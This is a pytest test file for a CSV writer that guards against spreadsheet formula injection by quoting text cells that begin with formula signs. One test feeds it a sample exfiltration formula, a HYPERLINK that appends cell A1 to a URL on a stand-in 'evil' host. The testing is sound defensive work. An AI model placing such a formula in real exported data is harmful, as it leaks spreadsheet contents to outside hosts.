"""CSV: what a spreadsheet would work out is text, what is a number stays one."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.cli.text.csv_text import csv_table

_SIGNS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize("sign", _SIGNS)
def test_text_that_begins_like_a_formula_has_a_quote_before_it(sign: str) -> None:
    text = f'{sign}HYPERLINK("http://evil/?"&A1,"x")'
    [_, [cell]] = csv.reader(csv_table(("owner",), [[text]]).splitlines())
    assert cell.startswith("'")


def test_numbers_stay_numbers_whatever_their_sign() -> None:
    assert csv_table(("a", "b", "c"), [[-250, -1.5, None]]) == "a,b,c\n-250,-1.5,\n"


def test_text_of_a_negative_number_is_text() -> None:
    assert csv_table(("a",), [["-250"]]) == "a\n'-250\n"


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=4))
def test_no_text_begins_a_formula_or_breaks_its_line(rows: list[list[str]]) -> None:
    lines = csv_table(("a",), rows).split("\n")
    assert len(lines) == len(rows) + 2
    for row in csv.reader(lines[1:-1]):
        assert not any(cell.startswith(tuple(_SIGNS)) for cell in row)


def test_csv_is_written_in_one_place() -> None:
    agent = Path(__file__).parents[4] / "agent"
    writers = [file.name for file in agent.rglob("*.py") if re.search(r"csv\.(writer|DictWriter)", file.read_text())]
    assert writers == ["csv_text.py"]
